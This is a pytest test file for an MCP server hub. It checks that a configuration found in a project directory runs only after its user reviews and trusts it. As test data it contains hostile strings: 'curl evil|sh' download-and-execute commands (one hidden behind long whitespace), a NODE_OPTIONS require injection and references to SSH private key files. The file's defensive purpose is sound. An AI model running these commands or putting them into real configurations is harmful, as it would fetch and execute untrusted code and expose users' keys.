"""A configuration that is found in a directory is executed only after its user has seen what it starts."""

from __future__ import annotations

import json
import os
import pty
import signal
import stat
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mcp_hub import Hub, ToolExecutor, ToolManager, codes
from mcp_hub.cli import BAD_INPUT, FAILED, OK, UNCONFIRMED
from mcp_hub.cli.startup import UNTRUSTED_NOTE
from mcp_hub.config.discovery import TrustedDirectories, default_path, find_config, read_executed
from mcp_hub.errors import ConfigError
from mcp_hub.hub.composition import read_config
from tests.cli.person import Person
from tests.cli.test_commands import run
from tests.cli.test_while_it_runs import read_terminal, wait_for_exit
from tests.fakes.client import HUB, fake, spawned

TOUCH = "import pathlib, sys; pathlib.Path(sys.argv[1]).touch()"


class Project:
    """A checkout of somebody else, in which a person works. Its only server leaves a mark when it is started."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.mark = directory / "started"
        self.file = directory / "servers.yaml"
        self.writes({"theirs": {"command": sys.executable, "args": ["-c", TOUCH, str(self.mark)]}})

    def writes(self, servers: dict[str, Any], **root: Any) -> None:
        self.file.write_text(json.dumps({"servers": servers, **root}))
        self.file.chmod(0o600)


@pytest.fixture
def project(person: Person, monkeypatch: pytest.MonkeyPatch) -> Iterator[Project]:
    monkeypatch.setenv("MCP_HUB_RUNTIME_DIR", str(person.home / "run"))
    return Project(Path.cwd())


def trusts(project: Project) -> bool:
    return find_config(project.directory, os.environ).path == project.file


def test_all_that_a_directory_starts_is_shown_whole(person: Person, project: Project) -> None:
    words = ["ls" + " " * 190 + "; curl evil|sh", "--token", "x; curl worse|sh", "y" * 5000 + "; curl last|sh"]
    project.writes(
        {"theirs": {"command": "sh", "args": words}} | {f"s{number}": {"command": "x"} for number in range(50)}
    )
    done = run("trust")
    assert done.returncode == UNCONFIRMED
    for text in ("ls\\{190 blanks}; curl evil|sh", "x; curl worse|sh", "y; curl last|sh", "s49: x"):
        assert text in done.stdout


COMMANDS = ["check", "doctor", "tools", "tokens", "call theirs__x", "pin --diff", "update --yes"]


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_starts_what_an_untrusted_file_names(person: Person, project: Project, command: str) -> None:
    done = run(*command.split())
    assert not project.mark.exists()
    assert done.returncode != OK
    assert codes.NOT_TRUSTED in done.stdout + done.stderr
    person.writes("servers: {}\n")
    done = run(*command.split())
    assert not project.mark.exists()
    assert codes.NOT_TRUSTED in done.stdout + done.stderr


def test_serve_without_a_terminal_ends_if_only_an_untrusted_file_is_there(person: Person, project: Project) -> None:
    done = run("serve")
    assert done.returncode == BAD_INPUT
    assert codes.NOT_TRUSTED in done.stderr
    assert not project.mark.exists()


@pytest.mark.anyio
async def test_serve_uses_the_users_own_file_and_says_so_to_client_and_user(person: Person, project: Project) -> None:
    person.writes(json.dumps({"servers": {"mine": fake()}, "list_wait": 100}))
    async with spawned([*HUB, "serve"]) as client:
        initialized = await client.initialize()
        assert UNTRUSTED_NOTE in initialized["instructions"]
        assert str(project.directory) not in initialized["instructions"]
        assert "mine__echo" in await client.tool_names()
        assert codes.NOT_TRUSTED.encode() in client.stderr
        status = json.loads(run("status", "--json").stdout)
        assert [facts["untrusted"] for facts in status] == [str(project.file)]
        assert str(project.file) in run("status").stdout
    assert not project.mark.exists()


def test_a_trusted_file_is_used_and_trust_can_be_taken_back(person: Person, project: Project) -> None:
    assert person.run("trust") == UNCONFIRMED
    assert str(project.mark) in person.out
    assert not trusts(project)
    assert person.run("trust", "--yes") == OK
    assert not project.mark.exists(), "only looking starts nothing"
    run("check")
    assert project.mark.exists()
    assert person.run("trust", "--list", "--json") == OK
    assert json.loads(person.out) == [str(project.directory)]
    assert person.run("trust", "--remove") == OK
    assert not trusts(project)
    assert person.run("trust", "--remove") == FAILED


def test_the_token_of_a_preview_confirms_only_what_it_showed(person: Person, project: Project) -> None:
    assert person.run("trust", "--json") == UNCONFIRMED
    token = json.loads(person.out)["token"]
    project.writes({"theirs": {"command": "x", "env": {"PATH": "/tmp"}}})
    assert person.run("trust", "--confirm", token) != OK
    assert not trusts(project)


def test_a_person_is_told_that_a_trusted_file_has_changed(person: Person, project: Project) -> None:
    assert person.run("trust") == UNCONFIRMED
    assert "has changed" not in person.out
    assert person.run("trust", "--yes") == OK
    assert person.run("trust") == OK
    assert "has changed" not in person.out
    project.writes({"theirs": {"command": "x", "env": {"PATH": "/tmp"}}})
    assert person.run("trust") == UNCONFIRMED
    assert "has changed" in person.out
    assert person.run("tools") == BAD_INPUT
    assert "[HUB-133]" in person.err
    assert "other things" in person.err


def test_trust_of_a_directory_without_a_configuration_is_an_error(person: Person, tmp_path: Path) -> None:
    assert person.run("trust", str(tmp_path / "none"), "--yes") == BAD_INPUT


def test_the_file_in_place_of_its_directory_is_an_error_that_names_the_directory(
    person: Person, project: Project
) -> None:
    assert person.run("trust", str(project.file), "--yes") == BAD_INPUT
    assert person.err.rstrip().endswith(str(project.directory))


def test_trust_is_recorded_outside_of_the_project_for_this_user_alone(person: Person, project: Project) -> None:
    before = sorted(project.directory.iterdir())
    assert person.run("trust", "--yes") == OK
    assert sorted(project.directory.iterdir()) == before
    (record,) = (person.home / ".local/state/mcp-hub/trust").iterdir()
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize("answer", ["y", "n"])
def test_a_person_at_a_terminal_is_asked_once(person: Person, project: Project, answer: str) -> None:
    person.writes("servers: {}\n")
    child, terminal = pty.fork()
    if child == 0:
        os.execv(HUB[0], [*HUB, "check"])
    try:
        shown = read_terminal(terminal, b"[y/N]").decode()
        assert not project.mark.exists()
        os.write(terminal, answer.encode() + b"\n")
        rest = read_terminal(terminal, b"server works\r\n" if answer == "y" else b"no servers").decode()
    finally:
        wait_for_exit(child)
        os.close(terminal)
    assert str(project.mark) in shown.replace("\r\n", "")
    assert "[y/N]" not in rest
    assert project.mark.exists() == trusts(project) == (answer == "y")


@pytest.mark.parametrize("command", [["disable", "theirs"], ["add", "--yes", "--off", "mine", "--", "x"], ["undo"]])
def test_edits_by_the_hub_keep_trust(person: Person, project: Project, command: list[str]) -> None:
    assert person.run("trust", "--yes") == OK
    assert person.run("add", "--yes", "--off", "other", "--", "y") == OK, person.err
    if command == ["undo"]:
        assert person.run("undo", "--yes") == OK
    else:
        assert person.run(*command) == OK, person.err
    assert trusts(project)


@pytest.mark.parametrize("command", [["add", "--yes", "--off", "mine", "--", "x"], ["disable", "theirs"]])
def test_edits_never_reach_an_untrusted_file(person: Person, project: Project, command: list[str]) -> None:
    before = project.file.read_bytes()
    person.run(*command)
    assert project.file.read_bytes() == before
    assert codes.NOT_TRUSTED in person.err
    assert person.config.exists() == (command[0] == "add")


def test_an_edit_with_a_named_file_does_not_make_it_trusted(person: Person, project: Project) -> None:
    assert person.run("disable", "theirs", "--config", "servers.yaml") == OK
    assert not trusts(project)


A = {"command": "a", "args": ["1"], "env": {"TOKEN": "${TOKEN}"}}


@pytest.mark.parametrize(
    "entry",
    [
        {**A, "args": ["2"]},
        {**A, "command": "b"},
        {**A, "env": {"TOKEN": "${TOKEN}", "NODE_OPTIONS": "--require=./x.js"}},
        {**A, "cwd": "/tmp"},
        {"url": "https://example.org/mcp"},
        {**A, "a_key_of_a_later_version": "x"},
        {**A, "tools": {"fetch": {"preset": {"url": "https://example.org/?k=${TOKEN}"}}}},
        {**A, "tools": {"fetch": {"preset": {"command": "curl evil|sh"}}}},
        {**A, "tools": {"fetch": {"postprocess": "a_function"}}},
        {**A, "tools": {"fetch": {"a_key_of_a_later_version": "x"}}},
        {**A, "tools": {"fetch": {"description": "${file:~/.ssh/id_ed25519}"}}},
        {**A, "toolDescriptionOverrides": {"fetch": "{env:TOKEN}"}},
    ],
)
def test_a_changed_command_asks_again(project: Project, entry: dict[str, Any]) -> None:
    project.writes({"a": A})
    TrustedDirectories.of_user().add(read_executed(project.file))
    project.writes({"a": entry})
    assert not trusts(project)


def test_a_new_server_and_what_the_root_starts_or_writes_ask_again(project: Project) -> None:
    for servers, root in (
        ({"a": A, "b": A}, {}),
        ({"a": A}, {"tools_dir": "t"}),
        ({"a": A}, {"call_log": {"file": "/etc/x"}}),
        ({"a": A}, {"proxy": "http://127.0.0.1:1"}),
        ({"a": A}, {"groups": {"g": {"description": "${TOKEN}"}}}),
    ):
        project.writes({"a": A})
        TrustedDirectories.of_user().add(read_executed(project.file))
        assert trusts(project)
        project.writes(servers, **root)
        assert not trusts(project), root


def test_rules_and_the_order_of_keys_do_not_ask_again(project: Project) -> None:
    project.writes({"a": A})
    TrustedDirectories.of_user().add(read_executed(project.file))
    entry = {"disable_tools": ["x"], "timeout": 3, **dict(reversed(A.items())), "enabled": False, "tags": ["x"]}
    for tools in (["x"], {"x": True}, {"x": {"name": "y", "description": "It is {fast}.", "timeout": 3}}):
        project.writes({"a": {**entry, "tools": tools}}, expose="all", expose_recent=3, blacklist={"a": "y"})
        assert trusts(project), tools


@pytest.mark.parametrize("tools_dir", [None, "t", "${workspaceFolder}/t", "${HOME_OF_TOOLS:-t}"])
@pytest.mark.parametrize("folder", ["mcp", "native", "builtin"])
def test_files_of_tools_beside_a_configuration_belong_to_what_is_trusted(
    project: Project, tools_dir: str | None, folder: str
) -> None:
    root = {} if tools_dir is None else {"tools_dir": tools_dir}
    project.writes({"a": A}, **root)
    TrustedDirectories.of_user().add(read_executed(project.file))
    tools = project.directory / ("tools" if tools_dir is None else "t") / folder
    tools.mkdir(parents=True)
    file = tools / ("x.py" if folder == "builtin" else "x.yaml")
    file.write_text("" if folder == "builtin" else "{command: evil, name: x, api_url: 'http://127.0.0.1'}")
    # Functions in a directory that was named are part of it, like the scripts that a trusted command runs.
    assert trusts(project) == (folder == "builtin" and tools_dir is not None)
    assert len(read_executed(project.file).lines) > 1


def test_functions_and_other_settings_that_are_trusted_are_named(project: Project) -> None:
    presets = {"x": {"preset": {"url": "y"}}}
    servers = {"a": {**A, "cwd": "/", "tools": presets}, "b": {"command": "b", "tools": ["x"], "timeout": 3}}
    project.writes(servers, tools_dir="tools", call_log={"file": "x"}, blacklist={"a": "y"})
    lines = ("a: a 1 (sets TOKEN; further settings: cwd, tools; reads ${TOKEN})", "b: b", "functions in tools")
    assert read_executed(project.file).lines == (*lines, "further settings: call_log")


@pytest.mark.parametrize(
    ("root", "entry", "shown"),
    [
        ("servers", {"cmd": "evil", "command": None}, "a: evil"),
        ("servers", {"httpUrl": "http://evil", "url": None}, "a: url http://evil"),
        ("servers", {"url": "http://evil", "args": ["good"]}, "a: good, url http://evil"),
        ("servers", {"command": "x", "env": {"PATH": "y"}, "environment": None}, "a: x (sets PATH)"),
        ("servers", {"command": "x", "env": ["PATH=y"]}, "a: x (sets PATH=y)"),
        ("servers", {"builtin": "browser", "executable": "evil"}, "a: builtin browser, executable evil"),
        ("servers", {"command": "x", "env_file": "y"}, "a: x, env_file y"),
        ("mcp", {"type": "local", "command": ["evil", "x"], "environment": {"PATH": "y"}}, "a: evil x (sets PATH)"),
    ],
)
def test_what_is_shown_is_what_the_hub_uses_in_every_spelling(
    project: Project, root: str, entry: dict[str, Any], shown: str
) -> None:
    project.file.write_text(json.dumps({root: {"a": entry}}))
    assert [server.id for server in read_config(project.file).config.servers] == ["a"]
    assert read_executed(project.file).lines == (shown,)


def test_the_variables_that_servers_get_are_shown(person: Person, project: Project) -> None:
    key, home = "${file:~/.ssh/id_rsa}", "os.environ/HOME"
    sent = {"env": {"X": home}, "headers": {"X": key}, "tools": {"send": {"preset": {"text": "{env:TOKEN}"}}}}
    project.writes({"a": {"url": "https://example.org/mcp", "cwd": "x", **sent}}, defaults={"env": "$HOME"})
    tools = project.directory / "tools" / "native"
    tools.mkdir(parents=True)
    (tools / "x.yaml").write_text("{name: x, api_url: 'http://127.0.0.1', headers: {X: '${{ secrets.X }}'}}")
    done = run("trust")
    for text in (
        "a: url https://example.org/mcp (sets X; further settings: cwd, headers, tools; reads "
        f"{home}, {key}, {{env:TOKEN}})",
        "further settings: defaults; reads $HOME",
        "tools of native/x.yaml; reads ${{ secrets.X }}",
    ):
        assert text in done.stdout


def test_what_would_run_is_shown_without_reading_variables_and_files(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", "do-not-show")
    project.writes({"a": {"url": "https://example.org/?k=${SECRET}&f=${file:/etc/hostname}"}})
    (line,) = read_executed(project.file).lines
    assert line == "a: url https://example.org/?k=${SECRET}&f=${file:/etc/hostname}"


@pytest.mark.parametrize("tools_dir", ["${file:/etc/hostname}", "${keyring:a/b}", "${{ secrets.X }}"])
def test_a_directory_of_tools_whose_name_is_a_secret_is_never_trusted(
    person: Person, project: Project, tools_dir: str
) -> None:
    project.writes({"a": A}, tools_dir=tools_dir)
    assert person.run("trust", "--yes") == BAD_INPUT
    assert not trusts(project)


def test_hidden_characters_of_a_command_are_shown_as_escapes(person: Person, project: Project) -> None:
    project.writes({"a": {"command": "x", "args": ["\x1b[2J\u202e"]}})
    assert person.run("trust") == UNCONFIRMED
    assert "\x1b" not in person.out
    assert "\u202e" not in person.out


def test_trust_holds_for_the_real_directory_and_its_owner(project: Project, tmp_path: Path) -> None:
    TrustedDirectories.of_user().add(read_executed(project.file))
    link = tmp_path / "link"
    link.symlink_to(project.directory)
    assert find_config(link, os.environ).path == link / "servers.yaml"
    record = TrustedDirectories.of_user().record(project.directory)
    facts = json.loads(record.read_text())
    record.write_text(json.dumps({**facts, "owner": facts["owner"] + 1}))
    assert not trusts(project)


def test_a_link_to_a_trusted_file_in_another_directory_is_not_trusted(project: Project, tmp_path: Path) -> None:
    TrustedDirectories.of_user().add(read_executed(project.file))
    other = tmp_path / "other"
    other.mkdir()
    (other / "servers.yaml").symlink_to(project.file)
    assert find_config(other, os.environ).untrusted == other / "servers.yaml"


def test_a_record_that_others_can_write_is_not_believed(project: Project) -> None:
    TrustedDirectories.of_user().add(read_executed(project.file))
    TrustedDirectories.of_user().record(project.directory).chmod(0o666)
    assert not trusts(project)


def test_a_pipe_in_place_of_the_file_is_passed_over(person: Person, project: Project) -> None:
    project.file.unlink()
    os.mkfifo(project.file)
    person.writes("servers: {}\n")
    assert default_path() == person.config


def test_a_working_directory_that_cannot_be_looked_at_has_no_file(person: Person) -> None:
    person.writes("servers: {}\n")
    assert find_config(Path(f"/{'x' * 300}"), os.environ).path == person.config


def test_files_that_are_named_and_those_of_the_user_need_no_trust(
    person: Person, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    run("check", "--config", "servers.yaml")
    assert project.mark.exists()
    project.mark.unlink()
    run("check", MCP_HUB_CONFIG="servers.yaml")
    monkeypatch.setenv("MCP_HUB_CONFIG", "servers.yaml")
    assert default_path() == project.file
    monkeypatch.delenv("MCP_HUB_CONFIG")
    person.writes("servers: {}\n")
    monkeypatch.chdir(person.config.parent)
    assert default_path() == person.config


def test_errors_of_a_trusted_file_are_told_and_not_passed_over(person: Person, project: Project) -> None:
    assert person.run("trust", "--yes") == OK
    person.writes("servers: {}\n")
    project.file.write_text("servers: [")
    assert person.run("check") == BAD_INPUT
    assert codes.FILE_BROKEN in person.err


def test_the_library_uses_the_same_default_and_any_file_that_it_is_given(person: Person, project: Project) -> None:
    with pytest.raises(ConfigError) as caught:
        Hub.from_config()
    assert caught.value.codes == (codes.NOT_TRUSTED,)
    with Hub.from_config("servers.yaml") as hub:
        assert hub.config.path == project.file


def test_the_hub_of_a_program_keeps_the_trusted_commands_until_the_new_ones_are_trusted(
    person: Person, project: Project
) -> None:
    project.writes({"a": fake()}, list_wait=100)
    assert person.run("trust", "--yes") == OK
    with ToolManager.from_config() as tools:
        pid = ToolExecutor(tools).execute("a__pid").output
        project.writes({"a": fake("--tools", "1")}, list_wait=100)
        assert ToolExecutor(tools).execute("a__pid").output == pid
        assert person.run("trust", "--yes") == OK
        assert tools.get_tool("a__t0").server == "a"


@pytest.mark.anyio
async def test_a_running_hub_keeps_the_trusted_commands_until_the_new_ones_are_trusted(
    person: Person, project: Project
) -> None:
    project.writes({"a": fake()}, list_wait=100)
    assert person.run("trust", "--yes") == OK
    async with spawned([*HUB, "serve"]) as client:
        await client.initialize()
        pid = await client.text("a__pid")
        project.writes({"a": fake("--tools", "1")}, list_wait=100)
        client.process.send_signal(signal.SIGHUP)
        await client.until(lambda: b"mcp-hub trust" in client.stderr)
        assert await client.text("a__pid") == pid
        assert person.run("trust", "--yes") == OK
        await client.until(lambda: b"loaded servers.yaml again" in client.stderr)
        await client.notified("notifications/tools/list_changed")
        assert "a__t0" in await client.tool_names()
